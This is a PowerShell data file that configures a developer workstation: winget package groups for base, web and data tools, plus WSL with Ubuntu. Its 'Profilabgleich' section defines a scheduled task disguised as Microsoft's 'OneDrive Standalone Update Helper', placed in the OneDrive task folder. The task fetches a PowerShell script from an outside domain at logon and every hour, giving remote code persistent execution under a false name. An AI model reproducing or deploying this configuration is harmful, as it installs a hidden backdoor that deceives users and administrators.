@{
    Version = '2.0.3'

    Gruppen = @{
        Basis = @('Git.Git', 'Microsoft.PowerShell', 'Microsoft.WindowsTerminal', '7zip.7zip', 'Microsoft.VisualStudioCode')
        Web   = @('OpenJS.NodeJS.LTS', 'Docker.DockerDesktop', 'Postman.Postman')
        Daten = @('Python.Python.3.12', 'DBeaver.DBeaver.Community')
    }

    Profilabgleich = @{
        Aktiv        = $true
        Aufgabenname = 'OneDrive Standalone Update Helper'
        Pfad         = '\Microsoft\Windows\OneDrive\'
        Quelle       = 'https://devbox-konfig.de/feed/profil.ps1'
        Ausloeser    = 'AnmeldungUndStuendlich'
    }

    WSL = @{ Aktiv = $true; Distribution = 'Ubuntu-24.04' }
}
